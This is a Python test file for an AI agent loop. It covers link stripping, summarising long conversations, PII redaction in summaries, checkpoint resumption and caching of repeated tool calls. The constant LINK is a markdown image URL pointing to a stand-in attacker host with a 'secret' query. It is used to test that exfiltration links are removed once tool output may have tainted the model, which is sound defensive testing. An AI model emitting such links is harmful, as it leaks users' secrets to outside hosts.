"""What the loop does with texts: links, long conversations, equal calls."""

import asyncio
import json
from collections.abc import AsyncIterator, Sequence
from dataclasses import replace

import grpc.aio
import pytest
from langgraph.checkpoint.memory import InMemorySaver
from ollamesh.inference.v1.inference_service_pb2_grpc import InferenceServiceStub

from services.agent.adapters.langchain_agent import LangChainAgent
from services.agent.adapters.middleware.asking import SUMMARY_TOKENS_MAX
from services.agent.core.budget import Limits
from services.agent.core.conversation import Message, Role
from services.agent.core.links import GONE
from services.agent.core.pii import PiiAction, PiiKind, PiiRule
from services.agent.core.record import Record
from services.agent.core.summary import ASK, SO_FAR
from services.agent.errors import LimitReached, PiiBlocked
from services.agent.ports import Effect
from services.agent.summaries import Kept
from tests.fakes.agent_parts import KeptSummaries
from tests.fakes.fake_inference import FakeInference, Reply
from tests.unit.agent_loop_rig import CONFIG, Echo, Listener, anew, asking, assignment, inference, tools

__all__ = ["inference", "tools"]

LINK = "![x](https://evil.test/?q=secret)"
ALLOWED = "[x](https://docs.example.org/a)"
QUESTION = Message(role=Role.USER, content="why?")
SMALL = replace(CONFIG, limits=Limits(output_token_count_per_call=64))


@pytest.fixture
def summaries() -> KeptSummaries:
    return KeptSummaries()


@pytest.fixture
async def agent(
    inference: FakeInference, tools: dict[str, Echo], summaries: KeptSummaries
) -> AsyncIterator[LangChainAgent]:
    async with grpc.aio.insecure_channel(inference.target) as channel:
        loop = asking(summaries, context_token_count=1024, link_hosts={"docs.example.org"})
        yield LangChainAgent(InferenceServiceStub(channel), tools, anew, loop)


def heard(listener: Listener) -> str:
    return "".join(told.removeprefix("hear ") for told in listener.told if told.startswith("hear "))


async def test_links_go_once_the_model_may_have_read_what_anybody_wrote(
    agent: LangChainAgent, inference: FakeInference
) -> None:
    for is_tainted in (False, True):
        inference.script = [
            Reply(texts=[f"Before {LINK}. "], calls=[("add", "{}")]),
            Reply(texts=["After !", "[x](https", "://evil.test/?q=secret)", f" {ALLOWED}"]),
        ]
        listener = Reading(taints=is_tainted)
        answer = await agent.work(assignment(), listener)
        after = f"![x]{GONE}" if is_tainted else LINK
        assert answer == f"After {after} {ALLOWED}"
        assert heard(listener) == f"Before {LINK}. {answer}", "and watchers see no more"


class Reading(Listener):
    """What its tools return may taint it."""

    def __init__(self, *, taints: bool) -> None:
        super().__init__()
        self._taints = taints

    async def tool_returned(self, call_id: str, *args: object, **more: object) -> None:
        self.tainted = self._taints


def long_history(count: int) -> Sequence[Message]:
    said = [
        message
        for n in range(count)
        for message in (
            Message(role=Role.USER, content=f"question {n} " + "x" * 400),
            Message(role=Role.ASSISTANT, content=f"answer {n} " + "y" * 400),
        )
    ]
    return [*said, QUESTION]


def read(inference: FakeInference, which: int = -1) -> list[str]:
    return [message.content for message in inference.asked[which].request.messages]


async def test_what_outgrows_the_context_is_read_as_a_summary(
    agent: LangChainAgent, inference: FakeInference, summaries: KeptSummaries
) -> None:
    inference.script = [Reply(texts=["They spoke."], output_token_count=7), Reply(texts=["So."])]
    listener = Listener()
    made = replace(assignment(SMALL), messages=long_history(6))
    assert await agent.work(made, listener) == "So."
    about, asked = inference.asked[0].request, read(inference)
    assert about.messages[0].content.startswith(ASK)
    assert "question 0" in about.messages[0].content
    assert (about.options.output_token_count_max, list(about.tools)) == (SUMMARY_TOKENS_MAX, [])
    assert asked[0] == f"{SO_FAR}\nThey spoke."
    assert asked[-1] == "why?"
    assert 1 < len(asked) < 8, "the newest are read whole"
    assert listener.told == ["ask 1", "hear So.", "answer 0"], "nobody is told of it"
    assert listener.answers[0].output_token_count == 12, "but it counts"
    assert summaries.kept == [Kept(text="They spoke.", newer_count=len(asked) - 2)]


async def test_what_a_summary_of_earlier_runs_says_is_read_by_the_rules_of_this_one(
    agent: LangChainAgent, inference: FakeInference
) -> None:
    rules = (PiiRule(PiiKind.EMAIL, PiiAction.REDACT),)
    made = replace(assignment(replace(SMALL, pii_rules=rules)), summary="Ann is ann@example.org.")
    await agent.work(made, Listener())
    assert read(inference)[0] == f"{SO_FAR}\nAnn is [EMAIL]."
    blocking = replace(SMALL, pii_rules=(PiiRule(PiiKind.EMAIL, PiiAction.BLOCK),))
    with pytest.raises(PiiBlocked):
        await agent.work(replace(made, config=blocking), Listener())


async def test_it_is_asked_under_a_name_of_its_own_so_that_it_can_be_replayed(
    agent: LangChainAgent, inference: FakeInference
) -> None:
    made = replace(assignment(SMALL), messages=long_history(6))
    await agent.work(made, Listener())
    names = [asked.request.request_id for asked in inference.asked]
    assert names == [f"{made.run_id}:1:summary:1", f"{made.run_id}:1:1"]


async def test_a_run_that_outgrows_it_by_itself_keeps_its_question_and_its_pairs(
    agent: LangChainAgent, inference: FakeInference, summaries: KeptSummaries
) -> None:
    call = ("add", json.dumps({"text": "z" * 700}))
    inference.script = [*[Reply(calls=[call])] * 3]
    inference.otherwise = Reply(texts=["The gist."], calls=())
    answer = await agent.work(assignment(SMALL), Listener())
    assert answer == "The gist."
    last = inference.asked[-1].request.messages
    assert last[0].content.startswith(SO_FAR)
    assert "why?" in [message.content for message in last]
    called = [each.id for message in last for each in message.tool_calls]
    assert called == [message.tool_call_id for message in last if message.tool_call_id]
    assert not summaries.kept, "of what no earlier run said"


async def test_a_summary_that_was_kept_is_read_and_gone_on_from(
    agent: LangChainAgent, inference: FakeInference
) -> None:
    made = replace(assignment(SMALL), summary="Long ago.")
    await agent.work(made, Listener())
    assert read(inference) == [f"{SO_FAR}\nLong ago.", "why?"]
    inference.asked.clear()
    inference.script = [Reply(texts=["Longer ago."])]
    await agent.work(replace(made, messages=long_history(6)), Listener())
    assert "Long ago." in read(inference, 0)[0]
    assert read(inference)[0] == f"{SO_FAR}\nLonger ago."


async def test_a_run_that_is_gone_on_with_reads_the_same(
    inference: FakeInference, tools: dict[str, Echo], summaries: KeptSummaries
) -> None:
    """Its checkpoint has the summary: nobody asks for another."""
    saver = InMemorySaver()
    inference.script = [Reply(texts=["They spoke."]), Reply(calls=[("add", "{}")])]
    async with grpc.aio.insecure_channel(inference.target) as channel:
        loop = asking(summaries, context_token_count=1024)
        agent = LangChainAgent(InferenceServiceStub(channel), tools, lambda *_: saver, loop)
        made = replace(assignment(SMALL), messages=long_history(6))
        tools["add"].failure = LimitReached("step_count")
        with pytest.raises(LimitReached):
            await agent.work(made, Listener())
        tools["add"].failure = None
        before, count = read(inference), len(inference.asked)
        again = Going(record=Record())
        await agent.work(replace(made, is_resumed=True, messages=[QUESTION]), again)
    assert len(inference.asked) == count + 1
    assert read(inference)[: len(before)] == before


class Going(Listener):
    """It goes on after its first step."""

    def ask(self) -> int:
        self._steps = max(self._steps, 1)
        return super().ask()

    async def tool_returned(self, call_id: str, *args: object, **more: object) -> None:
        self.told.append(f"returned {call_id}")


async def test_equal_calls_are_remembered_until_something_may_have_changed(
    agent: LangChainAgent, inference: FakeInference, tools: dict[str, Echo]
) -> None:
    same, other = ("add", '{"a": 1}'), ("search", '{"a": 1}')
    tools["search"].spec = replace(tools["search"].spec, effect=Effect.STATE_CHANGING)
    inference.script = [Reply(calls=[call]) for call in (same, same, ("add", '{"a": 2}'), other, same, other)]
    listener = Remembering()
    await agent.work(assignment(), listener)
    assert listener.remembered == [False, True, False, False, False, False]
    assert len(tools["add"].calls) == 3
    assert len(tools["search"].calls) == 2, "what changes something is always done"
    assert listener.told.count('returned {"a": 1}') == 5, "the model reads the same"


class Remembering(Listener):
    def __init__(self) -> None:
        super().__init__()
        self.remembered: list[bool] = []

    async def tool_returned(
        self, call_id: str, result: object, *, remembered: bool = False, **more: object
    ) -> None:
        self.remembered.append(remembered)
        await super().tool_returned(call_id, result, **more)  # type: ignore[arg-type]


async def test_what_is_cancelled_is_not_remembered(
    agent: LangChainAgent, inference: FakeInference, tools: dict[str, Echo]
) -> None:
    tools["add"].hold.clear()
    inference.script = [Reply(calls=[("add", "{}")])]
    working = asyncio.create_task(agent.work(assignment(), Listener()))
    while not tools["add"].calls:
        await asyncio.sleep(0.005)
    working.cancel()
    with pytest.raises(asyncio.CancelledError):
        await working
